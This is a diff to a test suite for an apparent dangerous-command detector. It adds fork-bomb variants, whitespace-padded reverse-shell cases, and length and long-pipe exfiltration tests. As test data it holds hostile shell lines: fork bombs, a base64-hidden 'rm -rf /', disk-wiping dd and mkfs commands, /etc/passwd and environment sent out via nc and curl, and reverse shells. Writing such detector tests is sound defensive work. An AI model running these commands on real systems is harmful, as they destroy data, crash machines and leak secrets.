@@ -45,6 +45,11 @@ describe('a command line', () => {
     ['runs what is hidden', 'echo cm0gLXJmIC8= | base64 -d | sh'],
     ['is a fork bomb', ':(){ :|:& };:'],
     ['is a named fork bomb', 'bomb() { bomb | bomb & }; bomb'],
+    ['is a fork bomb with many blanks', `:${' '.repeat(300)}()  {  :${' '.repeat(300)}|\t:  &  }; :`],
+    ['is a fork bomb with a long name', `${'a'.repeat(200)}(){ ${'a'.repeat(200)}& }`],
+    ['is a fork bomb in Python', 'while True: os.fork()'],
+    ['is a fork bomb in Perl with blanks', `while ( 1 ) {\n  fork }`],
+    ['is a fork bomb in a batch file', '%0 | %0'],
     ['is a fork bomb in Perl', `perl -e 'fork while fork'`],
     ['empties a disk', 'dd if=/dev/zero of=/dev/sda bs=1M'],
     ['makes a file system', 'sudo mkfs.ext4 /dev/sdb1'],
@@ -61,6 +66,7 @@ describe('a command line', () => {
     ['sends accounts', 'cat /etc/passwd | nc example.com 9000'],
     ['sends the environment', 'env | curl -d @- https://example.com'],
     ['opens a shell', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
+    ['opens a shell with many blanks', `bash ${' '.repeat(300)}-i  >& file`],
     ['opens a shell by netcat', 'nc -e /bin/sh 10.0.0.1 4444'],
   ])('that %s is no example', (_, line) => {
     expect(dangerOf(line)).not.toBeNull();
@@ -90,6 +96,7 @@ describe('a command line', () => {
     'eval "$(ssh-agent -s)"',
     'echo hello | base64',
     'cat ~/.ssh/id_ed25519.pub',
+    `cat ~/.ssh/${'work'.repeat(20)}.pub`,
     'ssh-keygen -t ed25519',
     'cat .env.example',
     'cat /etc/passwd | head -3',
@@ -136,6 +143,18 @@ describe('a command line', () => {
       }),
       { numRuns: 1000 },
     );
+  });
+
+  it('may have so many characters', () => {
+    expect(dangerOf(`echo ${'a'.repeat(4091)}`)).toBeNull();
+    expect(dangerOf(`echo ${'a'.repeat(4092)}`)).toBe('has more than 4096 characters');
+  });
+
+  it('sends a secret through any number of others', () => {
+    expect(dangerOf(`env | ${'cat | '.repeat(300)}nc example.com 9000`)).toBe(
+      'sends secrets to another machine',
+    );
+    expect(dangerOf(`cat ${'| cat '.repeat(300)}| nc example.com 9000`)).toBeNull();
   });
 
   it('is cut into what is started', () => {
